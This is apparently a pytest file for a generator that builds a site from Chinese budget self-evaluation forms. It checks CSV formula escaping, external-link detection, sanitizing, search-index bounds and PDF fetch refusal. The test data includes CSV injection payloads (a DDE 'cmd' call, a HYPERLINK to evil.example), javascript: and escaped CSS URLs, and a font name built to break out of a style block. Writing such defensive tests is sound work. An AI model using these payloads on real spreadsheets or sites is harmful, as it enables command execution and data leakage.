"""What rendering publishes from hostile text: CSV cells that no spreadsheet runs, links that no way of
writing escapes the checks, a conclusion that sanitizing never silently shortens, a search index of
bounded size, and a PDF adapter that fails with a message of ours, never WeasyPrint's traceback."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import pytest
import yaml

from generator.build import build_site
from generator.config import SiteConfig
from generator.pipeline import load_site
from generator.reading import read_document
from generator.render import data as render_data
from generator.render import html as render_html
from generator.render import narrative
from generator.render import pdf as render_pdf

from ..listening import recording_server
from .conftest import FORMS, assert_whole

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "implementer": "+cmd|' /C calc'!A0",
    "contact": "-2+3",
    "department.name": "@SUM(1+1)",
    "department.code": "\t=1+1",
    "indicators.0.name": "＝1+1",
    "indicators.0.reason": "  =1+1",
    "indicators.1.note": "\r=1+1",
    "indicators.2.reason": "－2+3",
}
"""Text fields whose value a spreadsheet would run as a formula (OWASP's triggers, full-width forms, white
space before them)."""


def _rewrite(path: Path, change: dict[str, str] | None = None, body: str | None = None) -> None:
    """A form file with some fields changed (dotted keys, row numbers from 0) and/or another 自评结论."""
    document = read_document(path)
    data = document.data
    for key, value in (change or {}).items():
        *parents, last = key.split(".")
        target = data
        for part in parents:
            target = target[int(part)] if part.isdigit() else target[part]
        target[int(last) if last.isdigit() else last] = value
    front = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    path.write_text(f"---\n{front}---\n{document.body if body is None else body}", encoding="utf-8")


def _csv_rows(path: Path) -> list[dict[str, str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --- CSV made for Excel -------------------------------------------------------------------------------


def test_no_csv_cell_runs_as_a_formula_and_figures_stay_numbers(site, decoy):
    _rewrite(site.form(), FORMULAS)
    build_site([site.content], SiteConfig(), site.out)
    assert_whole(site.out)
    forms = _csv_rows(site.out / "data" / "forms.csv")
    indicators = _csv_rows(site.out / "data" / "indicators.csv")
    starts = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    for row in forms + indicators:
        for column, cell in row.items():
            if column in render_data.NUMBER_COLUMNS:
                Decimal(cell)  # a number, as written: Excel reads it as one
                assert not cell.startswith("'"), (column, cell)
            else:
                assert not cell.lstrip().startswith(starts), (column, cell)
    mine = next(row for row in forms if row["slug"] == FORMS[0])
    assert mine["项目名称"] == "'" + FORMULAS["title"]  # the text itself is kept, after the '
    assert mine["实施单位"] == "'" + FORMULAS["implementer"]
    assert mine["主管部门代码"] == "'=1+1"  # white space around a value is not kept
    assert (mine["全年预算数"], mine["执行率"], mine["总分"]) == ("845371.59", "70.93", "97.09")
    first = next(row for row in indicators if row["slug"] == FORMS[0] and row["序号"] == "1")
    assert first["三级指标"] == "'＝1+1" and first["未完成原因分析"] == "'=1+1"
    feed = json.loads((site.out / "data" / "forms.json").read_text(encoding="utf-8"))
    record = next(form for form in feed["forms"] if form["slug"] == FORMS[0])
    assert record["title"] == FORMULAS["title"]  # JSON is not for spreadsheets: unchanged


def test_text_cells_and_number_cells():
    assert render_data.text_cell("-12.5") == "'-12.5"  # in a text column, a formula to Excel
    assert render_data.text_cell("≥95%") == "≥95%" and render_data.text_cell("平塘县") == "平塘县"
    assert render_data.text_cell("＠A1") == "'＠A1" and render_data.text_cell("\u3000=1") == "'\u3000=1"
    assert {"年初预算数", "全年预算数", "全年执行数", "执行率", "预算执行得分", "总分", "分值", "得分",
            "年度", "序号"} == render_data.NUMBER_COLUMNS


# --- links in the 自评结论 -----------------------------------------------------------------------------

LINKS = """见[文件][1]。

<https://a.example/>

正文 <a href="https://b.example/">b</a>

见[表](&#104;ttps://c.example/)

<img src="x.png" srcset="http://d.example/ 2x">

<p style="background:url(http://e.example/)">样式</p>

<p style="background:u\\72l(http://f.example/)">转义</p>

<a href="&#x6A;avascript&colon;alert(1)">脚本</a>

<video poster="//g.example/p.png"></video>

[1]: https://x.example/a
"""


def test_links_written_any_way_are_errors_on_their_line(site, decoy):
    form = site.form()
    text = form.read_text(encoding="utf-8")
    form.write_text(text.rstrip("\n") + "\n\n" + LINKS, encoding="utf-8")
    first = len(text.rstrip("\n").splitlines()) + 2
    errors = [f for f in load_site([form], SiteConfig()).findings if f.level.value == "error"]
    external = {(f.line - first, f.message.split("”")[0].lstrip("“")) for f in errors if f.code == "link-external"}
    assert external == {(0, "https://x.example/a"), (2, "https://a.example/"), (4, "https://b.example/"),
                        (6, "https://c.example/"), (8, "http://d.example/"), (10, "http://e.example/"),
                        (12, "http://f.example/"), (14, "javascript:alert(1)"), (16, "//g.example/p.png")}
    assert all(f.field == "body" and f.label == "自评结论" for f in errors)
    assert len(errors) == len(external)


def test_published_links_fetch_nothing():
    """Were a link out of the site ever published, it would be no http(s) (nothing a PDF could fetch)."""
    html = str(narrative.to_html("[a](https://a.example/) <http://b.example/> [c](ftp://c.example/) "
                                 "[d](mailto:d@example.cn) [e](e.pdf)"))
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert hrefs == ["mailto:d@example.cn", "e.pdf"], html


# --- text that sanitizing would drop -------------------------------------------------------------------

UNCLOSED = [
    ("style", "前文\n\n<style>p { color: red }\n\n后文，很长的结论\n"),
    ("script", "前文\n\n<script>var x = 1;\n\n后文\n"),
    ("textarea", "前文\n\n<textarea>\n\n后文\n"),
    ("title", "前文 <title>标题\n\n后文\n"),
    ("!--", "前文\n\n<div>\n<!-- 注释\n</div>\n\n后文\n"),
    ("svg", "前文\n\n<svg><text>甲</text>\n\n后文\n"),
]


@pytest.mark.parametrize(("name", "body"), UNCLOSED, ids=[name for name, _ in UNCLOSED])
def test_an_unclosed_element_that_would_drop_the_rest_is_an_error(site, decoy, name, body):
    _rewrite(site.form(), body="结论第一行\n" + body)
    document = read_document(site.form())
    findings = [f for f in load_site([site.form()], SiteConfig()).findings if f.field == "body"]
    assert [(f.code, f.level.value) for f in findings] == [("body-unclosed", "error")], findings
    tag = "<!--" if name == "!--" else f"<{name}"
    expected = document.body_line + document.body[:document.body.index(tag)].count("\n")
    assert findings[0].line == expected
    assert "never closed" in findings[0].message and "dropped" in findings[0].message
    assert "close it" in findings[0].fix


def test_closed_elements_and_code_are_not_reported(site, decoy):
    body = "结论\n\n`<style>` 是代码，<b>粗体</b>，<!-- 注释 -->\n\n<script>alert(1)</script>\n\n后文\n"
    _rewrite(site.form(), body=body)
    assert [f for f in load_site([site.form()], SiteConfig()).findings if f.field == "body"] == []


def test_text_that_sanitizing_drops_is_a_warning(site, decoy):
    _rewrite(site.form(), body="结论第一行\n\n前文 <svg><text>被删除的字</text></svg> 后文\n")
    document = read_document(site.form())
    findings = [f for f in load_site([site.form()], SiteConfig()).findings if f.field == "body"]
    assert [(f.code, f.level.value, f.line) for f in findings] == [("body-dropped", "warning",
                                                                    document.body_line + 2)]
    assert "被删除的字" in findings[0].message


# --- the search index ----------------------------------------------------------------------------------


def test_the_search_index_grows_by_a_small_bound_per_form(site, decoy):
    # Within the conclusion limit, far above the index's bound per form.
    _rewrite(site.form(), body="结论" + "很长的自评结论。" * 2_400 + "\n")
    build_site([site.content], SiteConfig(), site.out)
    assert_whole(site.out)
    script = (site.out / "assets" / "search-index.js").read_text(encoding="utf-8")
    index = json.loads(script.removeprefix("window.FORMGEN_SEARCH = ").rstrip().removesuffix(";"))
    assert set(index) == set(FORMS)
    assert max(map(len, index.values())) <= render_data.SEARCH_FORM_CHARS
    assert index[FORMS[0]].startswith("电力系统维修改造专项资金")  # the title is always searchable


def test_search_text_is_bounded_however_many_rows():
    record = {"title": "标题", "unit": "单位", "year": 2024, "goals": {"expected": "甲" * 10**6, "actual": "乙"},
              "conclusion": "丙" * 10**6,
              "indicators": [{"name": f"指标{number}" + "丁" * 5_000, "reason": "戊" * 5_000}
                             for number in range(500)]}
    text = render_data.search_text(record)
    assert len(text) <= render_data.SEARCH_FORM_CHARS
    assert text.startswith("标题单位2024" + "甲" * 10)
    assert text.count("甲") == render_data.SEARCH_TEXT_CHARS


# --- the PDF adapter -----------------------------------------------------------------------------------


def _environment() -> render_pdf.PdfEnvironment:
    try:
        return render_pdf.check_environment()
    except render_pdf.PdfUnavailable as error:
        pytest.skip(str(error))


def test_a_refused_attachment_is_our_error_not_weasyprints(tmp_path, decoy):
    environment = _environment()
    site = tmp_path / "site"
    site.mkdir()
    with recording_server() as (address, requests):
        for url in (f"http://{address}/x.pdf", decoy.secret.as_uri()):
            html = f'<html lang="zh-CN"><body><p>附件 <a rel="attachment" href="{url}">文件</a></p></body></html>'
            try:
                render_pdf.render_pdf(html, site, [site], environment)
            except Exception as error:  # an ordinary error of ours, naming the URL and the fix
                assert isinstance(error, render_pdf.FetchRefused), repr(error)
                assert url in str(error) and "relative path" in str(error)
            else:
                pytest.fail(f"{url} was fetched")
    assert requests == []


def test_a_site_template_refused_at_bundle_level_is_a_message(site, decoy, capsys):
    from generator.__main__ import main

    _environment()
    for slug in FORMS[1:]:  # one form: a PDF test stays small
        site.form(slug).unlink()
    (site.root / "templates").mkdir()
    default = (render_html.default_templates() / "bundle.html").read_text(encoding="utf-8")
    (site.root / "templates" / "bundle.html").write_text(
        default.replace('<section class="cover">', f'<section class="cover"><img src="{decoy.secret.as_uri()}">'),
        encoding="utf-8")
    assert main(["build", "content"]) == 1
    captured = capsys.readouterr()
    assert "Traceback" not in captured.out + captured.err
    assert f"refused to fetch {decoy.secret.as_uri()}" in captured.err
    assert "relative path" in captured.err
    assert not site.out.exists() and [path.name for path in site.root.iterdir() if ".tmp-" in path.name] == []


WEIRD_FONT = 'Evil"; } body { color: red } </style><script>alert(1)</script>\\'


def test_font_names_are_css_strings(tmp_path):
    """A font family from formgen.toml can end neither the CSS string, nor the rule, nor the <style>."""
    import tinycss2

    env = render_html.environment()
    fonts = (WEIRD_FONT, "Noto Serif CJK SC")
    frame = env.get_template("bundle_frame.html").render(pages=[("题", 1)], fonts=fonts)
    head = str(env.get_template("_pdf_head.html").module.head("题", "单位", "说明", "词", "2025-01-23", fonts, []))
    for html in (frame, head):
        style = html.split("<style>", 1)[1].split("</style>", 1)[0]
        assert "<script>" not in html and "</style>" not in style
        rules = tinycss2.parse_stylesheet(style, skip_comments=True, skip_whitespace=True)
        root = next(rule for rule in rules if tinycss2.serialize(rule.prelude).strip() == ":root")
        declarations = tinycss2.parse_blocks_contents(root.content, skip_whitespace=True)
        assert [(item.type, getattr(item, "name", "")) for item in declarations] == [("declaration", "--pdf-font")]
        strings = [token.value for token in declarations[0].value if token.type == "string"]
        assert strings == list(fonts)
    environment = _environment()
    body = '<body style="font-family: var(--pdf-font)"><p>平塘县人民法院</p></body>'
    document = frame.replace('<body class="pdf bundle-frame">', body)
    assert render_pdf.render_pdf(document, tmp_path, [tmp_path], environment).startswith(b"%PDF")


def test_a_missing_glyph_message_names_the_character_and_the_true_fix(monkeypatch):
    environment = _environment()
    missing = render_pdf.missing_glyphs("平塘𓀀", environment)
    assert missing == ["𓀀"]
    monkeypatch.setattr(render_pdf, "font_package_installed", lambda: True)
    message = render_pdf.missing_glyphs_message(missing, environment)
    assert "𓀀 (U+13000)" in message and "no configured font has it" in message
    assert "replace the character or name a font that has it in formgen.toml [pdf] fonts" in message
    assert "install" not in message  # installed: installing it again cannot help
    monkeypatch.setattr(render_pdf, "font_package_installed", lambda: False)
    assert "install fonts-noto-cjk" in render_pdf.missing_glyphs_message(missing, environment)
    many = render_pdf.missing_glyphs_message([chr(0x13000 + offset) for offset in range(25)], environment)
    assert "U+13013" in many and "U+13014" not in many and "and 5 more" in many
